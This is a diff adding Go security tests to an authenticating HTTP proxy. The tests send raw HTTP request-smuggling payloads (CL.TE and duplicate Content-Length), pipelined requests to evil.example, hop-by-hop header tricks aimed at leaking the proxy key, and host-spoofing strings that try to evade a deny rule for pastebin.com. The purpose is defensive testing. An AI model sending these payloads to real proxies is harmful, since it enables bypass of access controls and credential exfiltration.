@@ -11,6 +11,8 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
+	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -255,5 +257,111 @@ func TestAttack9PlainHTTPOutlivesMaxTunnel(t *testing.T) {
 	_, err = io.Copy(io.Discard, resp.Body)
 	if d := time.Since(start); d > time.Second {
 		t.Fatalf("the response was still flowing after %v (%v), MaxTunnel 300ms", d, err)
+	}
+}
+
+// TestAttack9HeldHopByHopAndSmuggling (held up): the custody key never
+// reaches the destination, however the request names it (Connection:
+// Proxy-Authorization, Proxy-Connection, Keep-Alive, Upgrade); a
+// request carrying both Content-Length and Transfer-Encoding, or two
+// different Content-Lengths, smuggles no second request past the
+// decision (net/http refuses or re-frames it); a second request on a
+// kept-alive connection is authenticated and decided on its own.
+func TestAttack9HeldHopByHopAndSmuggling(t *testing.T) {
+	var mu sync.Mutex
+	var seen []string
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		defer mu.Unlock()
+		seen = append(seen, r.Method+" "+r.URL.Path)
+		for k, vs := range r.Header {
+			for _, v := range vs {
+				if strings.Contains(v, goodKey) || strings.HasPrefix(k, "Proxy-") || k == "Upgrade" || k == "Keep-Alive" {
+					t.Errorf("upstream saw %s: %s", k, v)
+				}
+			}
+		}
+		if strings.Contains(string(b), goodKey) {
+			t.Errorf("upstream saw the key in the body")
+		}
+	}))
+	defer up.Close()
+	f := newProxy(t, loopbackAllowed)
+	f.deny["evil.example"] = true
+	auth := base64.StdEncoding.EncodeToString([]byte("r1:" + goodKey))
+	send := func(raw string) string {
+		conn, err := net.Dial("tcp", f.url.Host)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer conn.Close()
+		_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
+		_, _ = io.WriteString(conn, raw)
+		b, _ := io.ReadAll(conn)
+		return string(b)
+	}
+	h := "Host: x\r\nProxy-Authorization: Basic " + auth + "\r\n"
+	send("GET " + up.URL + "/hop HTTP/1.1\r\n" + h + "Connection: Proxy-Authorization, Keep-Alive, Upgrade\r\nProxy-Connection: keep-alive\r\nKeep-Alive: timeout=5\r\nUpgrade: websocket\r\n\r\n" +
+		"GET http://evil.example/pipelined HTTP/1.1\r\n" + h + "Connection: close\r\n\r\n")
+	smuggled := "GET http://evil.example/smuggled HTTP/1.1\r\n" + h + "\r\n"
+	send("POST " + up.URL + "/clte HTTP/1.1\r\n" + h + "Content-Length: " + fmt.Sprint(5+len(smuggled)) + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled)
+	send("POST " + up.URL + "/clcl HTTP/1.1\r\n" + h + "Content-Length: 0\r\nContent-Length: " + fmt.Sprint(len(smuggled)) + "\r\n\r\n" + smuggled)
+	mu.Lock()
+	defer mu.Unlock()
+	for _, s := range seen {
+		if strings.Contains(s, "smuggled") || strings.Contains(s, "pipelined") {
+			t.Errorf("upstream got %s", s)
+		}
+	}
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	var evil int
+	for _, r := range f.asked {
+		if r.Host == "evil.example" {
+			evil++
+		}
+	}
+	if evil == 0 {
+		t.Errorf("the pipelined request was not decided: %+v", f.asked)
+	}
+}
+
+// TestAttack9HeldDestinationForms (held up): forms that would let the
+// decided destination differ from the dialled one are refused before any
+// decision (400): a non-ASCII or percent-encoded non-ASCII host, an
+// empty host, ports 0, 65536 and "+443", an https:// or ws:// URL, a
+// scheme-relative or origin-form target, and a host with a space. Forms
+// Go parses to the same name (userinfo, an absolute-form path on
+// CONNECT) are decided on that name.
+func TestAttack9HeldDestinationForms(t *testing.T) {
+	f := newProxy(t, noDNS)
+	for _, tc := range []struct{ method, target string }{
+		{"CONNECT", ":443"}, {"CONNECT", "pastebin.com:0"}, {"CONNECT", "pastebin.com:65536"},
+		{"CONNECT", "pastebin.com"}, {"CONNECT", "ｐastebin.com:443"}, {"CONNECT", "pastebin.com:+443"},
+		{"GET", "http://%ef%bd%90astebin.com/"}, {"GET", "http://:80/"}, {"GET", "http://pastebin.com:0/"},
+		{"GET", "https://pastebin.com/"}, {"GET", "ws://pastebin.com/"}, {"GET", "//pastebin.com/"},
+		{"GET", "/pastebin.com"}, {"GET", "http:pastebin.com"}, {"GET", "http://pastebin.com:/"},
+		{"GET", "http://[::1]x/"}, {"GET", "http://a:b:80/"},
+	} {
+		code, body := rawThrough(t, f, tc.method, tc.target)
+		if code != http.StatusBadRequest {
+			t.Errorf("%s %s = %d %q, want 400", tc.method, tc.target, code, body)
+		}
+	}
+	f.mu.Lock()
+	asked := append([]Request(nil), f.asked...)
+	f.mu.Unlock()
+	if len(asked) != 0 {
+		t.Errorf("decided %+v", asked)
+	}
+	f.deny["pastebin.com"] = true
+	for _, tc := range []struct{ method, target string }{
+		{"CONNECT", "allowed.example:443@pastebin.com:443"}, {"CONNECT", "pastebin.com:443/x"},
+		{"GET", "http://allowed.example@pastebin.com/"}, {"GET", "http://pastebin.com:0080/"},
+	} {
+		if code, body := rawThrough(t, f, tc.method, tc.target); code != http.StatusForbidden {
+			t.Errorf("%s %s = %d %q, want 403 (decided as pastebin.com)", tc.method, tc.target, code, body)
+		}
 	}
 }
